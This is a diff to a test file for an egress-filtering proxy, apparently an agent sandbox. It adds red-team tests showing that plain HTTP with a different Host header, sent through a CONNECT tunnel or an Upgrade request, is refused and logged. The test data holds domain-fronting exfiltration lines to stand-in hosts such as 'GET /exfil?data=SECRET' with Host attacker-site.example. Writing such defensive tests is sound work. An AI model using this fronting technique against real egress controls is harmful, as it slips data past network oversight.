@@ -7,7 +7,7 @@ import path from 'node:path'
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
 import { buildPolicy, type EgressPolicy } from '../../src/network/policy.js'
 import { listenOnLoopback } from '../helpers/servers.js'
-import { parseAuthority, type DeniedConnection, type Resolver } from '../../src/network/proxy.js'
+import { parseAuthority, plainHttpRequest, type DeniedConnection, type Resolver } from '../../src/network/proxy.js'
 import { startProxy } from '../../src/network/session.js'
 import type { LazyServer } from '../../src/network/lazy-server.js'
 import { suiteTempDir, tempDir } from '../helpers/temp.js'
@@ -39,13 +39,23 @@ interface Served {
   headers: http.IncomingHttpHeaders
 }
 
-/** An HTTP server on `host`, answering with its own name and what it received. */
+/**
+ * An HTTP server on `host`, answering with its own name and what it received; a first line
+ * `PING PATH` (not HTTP: what `tunnel` sends, since plain HTTP in a tunnel to a name is refused)
+ * is answered `NAME: PING PATH`.
+ */
 async function localServer(name: string, host: string, port = 0): Promise<{ server: http.Server; port: number; served: Served[] }> {
   const served: Served[] = []
   const server = http.createServer((req, res) => {
     served.push({ method: req.method, url: req.url, headers: req.headers })
     res.writeHead(200, { 'content-type': 'text/plain' })
     res.end(`${name}: ${req.method} ${req.url} host=${req.headers.host}`)
+  })
+  server.on('clientError', (error: Error & { rawPacket?: Buffer }, socket: net.Socket) => {
+    const ping = /^PING (\S+)\r\n/.exec(error.rawPacket?.toString('latin1') ?? '')
+    if (ping === null) return void socket.destroy()
+    served.push({ method: 'PING', url: ping[1], headers: {} })
+    socket.end(`${name}: PING ${ping[1]}\n`)
   })
   await new Promise<void>((ok, fail) => {
     server.once('error', fail)
@@ -126,13 +136,13 @@ function plain(
   })
 }
 
-/** CONNECT, then (when it is admitted) one HTTP request through the tunnel. */
+/** CONNECT, then (when it is admitted) a `PING PATH` line through the tunnel (localServer answers it). */
 async function tunnel(socketPath: string, authority: string, pathAndQuery = '/through'): Promise<{ status: number; head: string; body: string; inner?: string }> {
   const client = proxyClient(socketPath)
   client.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`)
   const head = await client.head()
   if (head.status !== 200) return { status: head.status, head: head.text, body: await client.rest() }
-  client.write(`GET ${pathAndQuery} HTTP/1.1\r\nHost: ${authority}\r\nConnection: close\r\n\r\n`)
+  client.write(`PING ${pathAndQuery}\r\n`)
   const inner = await client.rest()
   return { status: head.status, head: head.text, body: '', inner }
 }
@@ -200,8 +210,7 @@ describe('startProxy (injected resolver, real local servers)', () => {
 
     const viaConnect = await tunnel(socket, target, '/hello?x=1')
     expect(viaConnect.head).toMatch(/^HTTP\/1\.1 200 Connection Established\r\n\r\n$/)
-    expect(viaConnect.inner).toMatch(/^HTTP\/1\.1 200 OK\r\n/)
-    expect(viaConnect.inner).toContain(`local: GET /hello?x=1 host=${target}`)
+    expect(viaConnect.inner).toBe('local: PING /hello?x=1\n')
 
     const viaPlain = await plain(socket, `http://${target}/path?q=1`, {
       headers: { host: target, 'proxy-authorization': 'Basic c2VjcmV0', 'proxy-connection': 'keep-alive', 'x-test': 'kept' },
@@ -246,7 +255,7 @@ describe('startProxy (injected resolver, real local servers)', () => {
 
     const first = await tunnel(socket, target)
     expect(first.status).toBe(200)
-    expect(first.inner).toContain(`local: GET /through host=${target}`)
+    expect(first.inner).toBe('local: PING /through\n')
     expect(calls).toBe(1)
 
     // The next connection gets its own lookup (and here, an address that does not answer).
@@ -267,7 +276,7 @@ describe('startProxy (injected resolver, real local servers)', () => {
       const socket = await start(policy([`*.example.test:${local.port}`, `127.0.0.1:${local.port}`]), { 'mixed.example.test': ['127.0.0.2', '127.0.0.1'] })
       const result = await tunnel(socket, target)
       expect(result.status).toBe(200)
-      expect(result.inner).toContain(`local: GET /through host=${target}`)
+      expect(result.inner).toBe('local: PING /through\n')
       expect(other.served).toEqual([])
     } finally {
       await new Promise(done => other.server.close(done))
@@ -299,7 +308,7 @@ describe('startProxy (injected resolver, real local servers)', () => {
     const socket = await start(policy([`127.0.0.1:${local.port}`]), {})
     const result = await tunnel(socket, `2130706433:${local.port}`)
     expect(result.status).toBe(200)
-    expect(result.inner).toContain('local: GET /through')
+    expect(result.inner).toBe('local: PING /through\n')
     expect(lookups).toEqual([])
   })
 
@@ -676,5 +685,216 @@ describe('plain HTTP keeps its upstream connection per client connection', () =>
       one.close()
     })
     server.close()
+  })
+})
+
+// ---------------------------------------------------------------- the Host check holds (red team, round 89)
+
+describe('plainHttpRequest: the first bytes of a tunnel that are an HTTP request line', () => {
+  test.each<[string, boolean | 'need-more']>([
+    ['GET / HTTP/1.1\r\nHost: x\r\n\r\n', true],
+    ['POST http://evil.example/ HTTP/1.0\r\n', true],
+    ['\r\n\r\nGET / HTTP/1.1\r\n', true],
+    ['M-SEARCH * HTTP/1.1\r\n', true],
+    ['GET /\thttp/1.1\n', true],
+    ['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', true],
+    ['GET / HTTP/1.1', true],
+    ['SSH-2.0-OpenSSH_9.6\r\n', false],
+    ['PING /x\r\n', false],
+    ['*1\r\n$4\r\nPING\r\n', false],
+    ['\x00\x00\x00\x08\x04\xd2\x16\x2f', false],
+    ['{"jsonrpc":"2.0"}', false],
+    ['', 'need-more'],
+    ['\r\n', 'need-more'],
+    ['GE', 'need-more'],
+    ['GET /long/path', 'need-more'],
+    ['SSH-2.0-Open', 'need-more'],
+  ])('%j -> %j', (text, expected) => {
+    expect(plainHttpRequest(Buffer.from(text, 'latin1'))).toBe(expected)
+  })
+
+  test('a first line longer than the limit that starts like one is taken for one; other bytes are not', () => {
+    expect(plainHttpRequest(Buffer.from(`GET /${'a'.repeat(70_000)}`))).toBe(true)
+    expect(plainHttpRequest(Buffer.from('a'.repeat(70_000)))).toBe(false)
+  })
+})
+
+describe('the Host check of plain HTTP holds through Upgrade and CONNECT (red team, round 89)', () => {
+  /** What a raw server received: each request line with its Host, or the raw bytes of a non-HTTP connection. */
+  interface Seen {
+    requests: string[]
+    raw: string[]
+  }
+
+  /**
+   * A front end on 127.0.0.1 (a CDN address) that answers each request by its Host: `answer` says
+   * how (200 keep-alive, or 101 and then an echo); a connection whose first bytes are not HTTP gets
+   * `echo:` and its line back.
+   */
+  async function frontEnd(answer: '200' | '101'): Promise<{ port: number; seen: Seen; close: () => void }> {
+    const seen: Seen = { requests: [], raw: [] }
+    const sockets = new Set<net.Socket>()
+    const server = net.createServer(socket => {
+      sockets.add(socket)
+      socket.on('close', () => sockets.delete(socket))
+      socket.on('error', () => {})
+      let buffer = ''
+      let upgraded = false
+      socket.on('data', (chunk: Buffer) => {
+        buffer += chunk.toString('latin1')
+        if (upgraded || !/^[A-Z]+ \S+ HTTP\/1\.1\r\n/.test(buffer)) {
+          if (!upgraded && !/^[A-Z]*$/.test(buffer)) seen.raw.push(buffer)
+          const line = buffer
+          buffer = ''
+          if (line !== '') socket.write(`echo:${line}`)
+          return
+        }
+        for (let end = buffer.indexOf('\r\n\r\n'); end !== -1 && !upgraded; end = buffer.indexOf('\r\n\r\n')) {
+          const head = buffer.slice(0, end)
+          buffer = buffer.slice(end + 4)
+          const host = /\r\nhost: ([^\r]*)/i.exec(head)?.[1]
+          seen.requests.push(`${head.split(' ').slice(0, 2).join(' ')} host=${host}`)
+          if (answer === '101' && /\r\nupgrade:/i.test(head)) {
+            upgraded = true
+            socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\nhello from the server')
+          } else {
+            const body = `site ${host}`
+            socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\nConnection: keep-alive\r\n\r\n${body}`)
+          }
+        }
+      })
+    })
+    const port = await listenOnLoopback(server)
+    return {
+      port,
+      seen,
+      close: () => {
+        for (const socket of sockets) socket.destroy()
+        server.close()
+      },
+    }
+  }
+
+  async function withProxy(allow: string, run: (socketPath: string, denied: DeniedConnection[]) => Promise<void>): Promise<void> {
+    const socketPath = path.join(tempDir('cb-host-check-'), 'proxy.sock')
+    const denied: DeniedConnection[] = []
+    const proxy = await startProxy({ socketPath, policy: policy([allow]), onDenied: d => void denied.push(d), resolve: () => Promise.resolve(['127.0.0.1']) })
+    try {
+      await run(socketPath, denied)
+    } finally {
+      await proxy.close()
+    }
+  }
+
+  const upgradeRequest = (target: string): string => `GET http://${target}/ws HTTP/1.1\r\nHost: ${target}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`
+  const fronted = 'GET /exfil?data=SECRET HTTP/1.1\r\nHost: attacker-site.example\r\n\r\n'
+
+  test('Upgrade answered 200 keep-alive: the answer is relayed and the connection closed; the next request, sent at once or after the answer, never reaches the server', async () => {
+    const site = await frontEnd('200')
+    const target = `cdn.example.test:${site.port}`
+    try {
+      for (const after of [false, true]) {
+        await withProxy(target, async socketPath => {
+          const client = proxyClient(socketPath)
+          client.write(upgradeRequest(target) + (after ? '' : fronted))
+          const head = await client.head()
+          expect(head.status).toBe(200)
+          expect(head.text).toMatch(/\r\nConnection: close\r\n/i)
+          if (after) client.write(fronted)
+          expect(await client.rest()).toBe(`site ${target}`)
+        })
+      }
+      expect(site.seen.requests).toEqual([`GET /ws host=${target}`, `GET /ws host=${target}`])
+      expect(site.seen.raw).toEqual([])
+    } finally {
+      site.close()
+    }
+  })
+
+  test('Upgrade answered 101: the answer and the bytes after it reach the client, and bytes flow both ways', async () => {
+    const site = await frontEnd('101')
+    const target = `ws.example.test:${site.port}`
+    try {
+      await withProxy(target, async socketPath => {
+        const client = proxyClient(socketPath)
+        client.write(upgradeRequest(target))
+        const head = await client.head()
+        expect(head.status).toBe(101)
+        expect(head.text).toMatch(/\r\nUpgrade: websocket\r\n/)
+        client.write('ping')
+        expect(await until(() => site.seen.requests.length === 1, 2_000)).toBe(true)
+        client.close()
+      })
+      expect(site.seen.requests).toEqual([`GET /ws host=${target}`])
+    } finally {
+      site.close()
+    }
+  })
+
+  test('Upgrade answered 101: a client message after the handshake is echoed back', async () => {
+    const site = await frontEnd('101')
+    const target = `ws.example.test:${site.port}`
+    try {
+      await withProxy(target, async socketPath => {
+        const socket = net.connect(socketPath)
+        let received = ''
+        socket.on('data', (d: Buffer) => (received += d.toString('latin1')))
+        socket.write(upgradeRequest(target))
+        expect(await until(() => received.includes('hello from the server'), 2_000)).toBe(true)
+        socket.write('ping')
+        expect(await until(() => received.endsWith('echo:ping'), 2_000)).toBe(true)
+        socket.destroy()
+      })
+    } finally {
+      site.close()
+    }
+  })
+
+  test('CONNECT to a name, then plain HTTP with another Host: refused with 403 inside the tunnel, logged, never seen upstream (whole, after empty lines, or a byte at a time)', async () => {
+    const site = await frontEnd('200')
+    const target = `cdn.example.test:${site.port}`
+    try {
+      await withProxy(target, async (socketPath, denied) => {
+        for (const chunks of [[fronted], ['\r\n', fronted], [...fronted]]) {
+          const client = proxyClient(socketPath)
+          client.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)
+          expect((await client.head()).status).toBe(200)
+          for (const chunk of chunks) {
+            client.write(chunk)
+            await new Promise(resolve => setImmediate(resolve))
+          }
+          const inner = await client.head()
+          expect(inner.status, JSON.stringify([chunks.length, inner.text])).toBe(403)
+          expect(await client.rest()).toMatch(/^claudebox: cdn\.example\.test:\d+: plain HTTP inside a CONNECT tunnel is refused/)
+        }
+        expect(denied).toHaveLength(3)
+        for (const d of denied) {
+          expect(d).toMatchObject({ host: 'cdn.example.test', port: site.port })
+          expect(d.reason).toMatch(/^plain HTTP inside a CONNECT tunnel is refused/)
+        }
+      })
+      expect(site.seen).toEqual({ requests: [], raw: [] })
+    } finally {
+      site.close()
+    }
+  })
+
+  test('CONNECT to a name, then a protocol that is neither TLS nor HTTP (an SSH banner): relayed both ways as before', async () => {
+    const site = await frontEnd('200')
+    const target = `git.example.test:${site.port}`
+    try {
+      await withProxy(target, async (socketPath, denied) => {
+        const client = proxyClient(socketPath)
+        client.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)
+        expect((await client.head()).status).toBe(200)
+        client.write('SSH-2.0-x\r\n')
+        expect(await until(() => site.seen.raw.length === 1, 2_000)).toBe(true)
+        client.close()
+        expect(denied).toEqual([])
+      })
+      expect(site.seen.raw).toEqual(['SSH-2.0-x\r\n'])
+    } finally {
+      site.close()
+    }
   })
 })
